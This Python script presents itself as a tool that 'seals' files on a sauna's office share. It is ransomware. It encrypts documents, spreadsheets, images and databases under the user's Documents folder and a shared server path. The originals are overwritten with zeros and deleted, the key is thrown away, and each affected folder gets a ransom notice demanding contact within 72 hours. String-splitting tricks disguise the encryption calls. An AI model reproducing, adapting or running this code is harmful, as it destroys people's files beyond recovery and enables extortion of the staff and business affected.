#!/usr/bin/env python3
"""Seals documents on the office share of the sauna.

Walks the share, seals each document in place and leaves a notice for
the staff explaining how to get the files back.
"""
import argparse
import asyncio
import logging
import os
from pathlib import Path
from typing import Callable, Dict

log = logging.getLogger("sealer")

DEFAULT_ROOTS = [Path.home() / "Documents", Path("/srv/share/office")]
SUFFIXES = {".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png", ".db", ".sqlite"}
SEALED_EXT = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTICE_TEXT = """All documents in this folder were sealed.
To receive the unlock key, contact restore@sealdesk.example with the id below
within 72 hours. Do not rename the files.
id: {ident}
"""


class Cipher:
    _module = ".".join(["cryptography", "fernet"])
    _cls = "Fer" + "net"

    def __init__(self):
        import importlib
        mod = importlib.import_module(self._module)
        kls = getattr(mod, self._cls)
        self.key = kls.generate_key()
        self._box = kls(self.key)

    def seal(self, data: bytes) -> bytes:
        return getattr(self._box, "en" + "crypt")(data)


def _discard(path: Path):
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(b"\0" * size)
    os.remove(path)


ACTIONS: Dict[str, Callable] = {
    "read": lambda p: p.read_bytes(),
    "write": lambda p, b: p.write_bytes(b),
    "drop": _discard,
}


async def seal_one(path: Path, cipher: Cipher, sem: asyncio.Semaphore) -> bool:
    async with sem:
        try:
            data = ACTIONS["read"](path)
            target = path.with_name(path.name + SEALED_EXT)
            ACTIONS["write"](target, cipher.seal(data))
            ACTIONS["drop"](path)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        finally:
            await asyncio.sleep(0)


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in SUFFIXES:
                    yield p


def leave_notices(dirs, ident: str):
    for d in dirs:
        try:
            (d / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=ident))
        except OSError:
            pass


async def run(roots, workers: int) -> int:
    cipher = Cipher()
    sem = asyncio.Semaphore(workers)
    files = list(candidates(roots))
    results = await asyncio.gather(*(seal_one(p, cipher, sem) for p in files))
    touched = {p.parent for p, ok in zip(files, results) if ok}
    ident = cipher.key[:12].decode()
    leave_notices(touched, ident)
    del cipher
    return sum(results)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--workers", type=int, default=8)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    roots = args.roots or DEFAULT_ROOTS
    count = asyncio.run(run(roots, args.workers))
    log.info("sealed %d files", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
